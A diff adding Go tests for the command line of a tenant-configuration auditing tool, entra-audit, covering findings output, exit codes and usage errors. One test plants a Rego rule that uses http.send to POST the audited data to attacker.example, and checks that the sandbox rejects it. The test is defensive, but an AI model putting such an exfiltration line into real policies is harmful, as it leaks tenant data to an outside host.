@@ -1,0 +1,175 @@
+package cli
+
+import (
+	"bytes"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/entra-audit/entra-audit/internal/finding"
+)
+
+// auditMain runs the command line and returns exit code, stdout, stderr.
+func auditMain(t *testing.T, args ...string) (int, string, string) {
+	t.Helper()
+	var out, errb bytes.Buffer
+	code := Main(args, &IO{In: strings.NewReader(""), Out: &out, Err: &errb, Getenv: func(string) string { return "" }})
+	return code, out.String(), errb.String()
+}
+
+// demoSnapshot snapshots the embedded demo tenant through the CLI.
+func demoSnapshot(t *testing.T) string {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), "snapshot")
+	if code, _, stderr := auditMain(t, "snapshot", "--demo", "--out", dir); code != ExitOK {
+		t.Fatalf("snapshot --demo: exit %d\n%s", code, stderr)
+	}
+	return dir
+}
+
+func readFindings(t *testing.T, out string) finding.Report {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join(out, "findings.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var rep finding.Report
+	if err := json.Unmarshal(b, &rep); err != nil {
+		t.Fatalf("findings.json does not decode into finding.Report: %v", err)
+	}
+	return rep
+}
+
+const fixedTime = "2026-11-26T10:05:00Z"
+
+func TestAuditDemoWritesFindingsJSON(t *testing.T) {
+	snap := demoSnapshot(t)
+	out := filepath.Join(t.TempDir(), "out")
+	code, _, stderr := auditMain(t, "audit", "--snapshot", snap, "--out", out, "--format", "json",
+		"--evaluation-time", fixedTime, "--policy", "../../examples/custom-policy")
+	if code != ExitOK {
+		t.Fatalf("audit: exit %d (want 0: --fail-on defaults to never)\n%s", code, stderr)
+	}
+	rep := readFindings(t, out)
+	if rep.SchemaVersion != finding.ReportSchemaVersion || rep.Tenant.ID != "bdd640fb-0667-4ad1-9c80-317fa3b1799d" ||
+		rep.Tenant.DefaultDomain != "contoso.com" || rep.EvaluatedAt.Format("2006-01-02T15:04:05Z") != fixedTime ||
+		rep.Tool.Name != "entra-audit" || len(rep.Collection) == 0 {
+		t.Errorf("report header = %+v %+v %s %+v", rep.Tool, rep.Tenant, rep.EvaluatedAt, rep.Collection)
+	}
+	if _, err := os.Stat(filepath.Join(out, "results.sarif")); err == nil {
+		t.Error("--format json wrote SARIF too")
+	}
+	var custom *finding.Result
+	for i, r := range rep.Controls {
+		if r.ID == "" || r.Title == "" || r.Severity.Rank() == 0 || r.Status == finding.StatusUnknown || r.Frameworks == nil || r.Findings == nil {
+			t.Errorf("control %d lacks a field of the schema: %+v", i, r.Control)
+		}
+		for _, f := range r.Findings {
+			if f.Location == nil {
+				continue
+			}
+			if _, err := os.Stat(filepath.Join(snap, f.Location.File)); err != nil || f.Location.Line < 1 {
+				t.Errorf("%s: finding location %+v does not point into the snapshot", r.ID, f.Location)
+			}
+		}
+		if r.ID == "ACME.TEN.1v1" {
+			custom = &rep.Controls[i]
+		}
+	}
+	if custom == nil {
+		t.Fatal("the custom control ACME.TEN.1v1 is not in findings.json")
+	}
+	want := finding.Location{File: "tenant/authorization-policy.yaml", Line: 1}
+	if custom.Status != finding.StatusFail || custom.Source != "../../examples/custom-policy/tenant/self_service_signup/self_service_signup.rego" ||
+		len(custom.Findings) != 1 || custom.Findings[0].Location == nil || *custom.Findings[0].Location != want {
+		t.Errorf("custom result = %+v (location %+v), want fail at %+v", custom, custom.Findings[0].Location, want)
+	}
+	if !strings.Contains(stderr, "Audited contoso.com: ") || !strings.Contains(stderr, "wrote "+filepath.Join(out, "findings.json")) {
+		t.Errorf("summary on stderr:\n%s", stderr)
+	}
+}
+
+func TestAuditFailOn(t *testing.T) {
+	snap := demoSnapshot(t)
+	for _, tc := range []struct {
+		failOn string
+		want   int
+	}{{"never", ExitOK}, {"low", ExitFindings}, {"critical", -1}} {
+		out := t.TempDir()
+		code, _, stderr := auditMain(t, "audit", "-s", snap, "-o", out, "-f", "json", "--fail-on", tc.failOn)
+		rep := readFindings(t, out)
+		want := tc.want
+		if want == -1 {
+			want = ExitOK
+			if rep.Failing(finding.SeverityCritical) {
+				want = ExitFindings
+			}
+		}
+		if code != want {
+			t.Errorf("--fail-on %s: exit %d, want %d\n%s", tc.failOn, code, want, stderr)
+		}
+	}
+}
+
+func TestAuditRefusesSandboxEscapes(t *testing.T) {
+	snap := demoSnapshot(t)
+	dir := filepath.Join(t.TempDir(), "evil")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	src, err := os.ReadFile("../../examples/custom-policy/tenant/self_service_signup/self_service_signup.rego")
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil := string(src) + "\nevidence contains {\"leak\": http.send({\"method\": \"POST\", \"url\": \"https://attacker.example\", \"body\": input})} if true\n"
+	if err := os.WriteFile(filepath.Join(dir, "evil.rego"), []byte(evil), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out := filepath.Join(t.TempDir(), "out")
+	code, _, stderr := auditMain(t, "audit", "--snapshot", snap, "--out", out, "--policy", dir)
+	line := strings.Count(string(src), "\n") + 2
+	want := "custom policy " + dir + "/evil.rego:" + strconv.Itoa(line) + ": http.send is not allowed: policies run sandboxed without network access"
+	if code != ExitUsage || !strings.Contains(stderr, want) {
+		t.Errorf("exit %d, stderr:\n%s\nwant exit 2 and %q", code, stderr, want)
+	}
+	if _, err := os.Stat(out); err == nil {
+		t.Error("a refused policy still produced reports")
+	}
+}
+
+func TestAuditUsageErrors(t *testing.T) {
+	snap := demoSnapshot(t)
+	badConfig := filepath.Join(t.TempDir(), "entra-audit.yaml")
+	if err := os.WriteFile(badConfig, []byte("controls:\n  MS.AAD.99.1v1:\n    disabled: true\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cases := map[string]struct {
+		args []string
+		want string
+	}{
+		"no snapshot":     {[]string{"audit", "--out", t.TempDir()}, "--snapshot is required"},
+		"no out":          {[]string{"audit", "--snapshot", snap}, "--out is required"},
+		"bad fail-on":     {[]string{"audit", "-s", snap, "-o", t.TempDir(), "--fail-on", "sometimes"}, `--fail-on "sometimes"`},
+		"bad format":      {[]string{"audit", "-s", snap, "-o", t.TempDir(), "--format", "pdf"}, `unknown report format "pdf"`},
+		"missing snap":    {[]string{"audit", "-s", filepath.Join(t.TempDir(), "none"), "-o", t.TempDir()}, "--snapshot"},
+		"bad time":        {[]string{"audit", "-s", snap, "-o", t.TempDir(), "--evaluation-time", "today"}, "not an RFC 3339 time"},
+		"unknown control": {[]string{"audit", "-s", snap, "-o", t.TempDir(), "--config", badConfig}, badConfig + `:2: controls: "MS.AAD.99.1v1" is not a control ID`},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			code, _, stderr := auditMain(t, tc.args...)
+			if code != ExitUsage || !strings.Contains(stderr, tc.want) {
+				t.Errorf("exit %d, stderr %q; want exit 2 and %q", code, stderr, tc.want)
+			}
+		})
+	}
+}
+
+func TestExampleConfigLoadsWithTheBuiltinPack(t *testing.T) {
+	if _, err := loadEngine(t.Context(), "../../examples/entra-audit.yaml", nil); err != nil {
+		t.Fatalf("examples/entra-audit.yaml against the built-in pack: %v", err)
+	}
+}
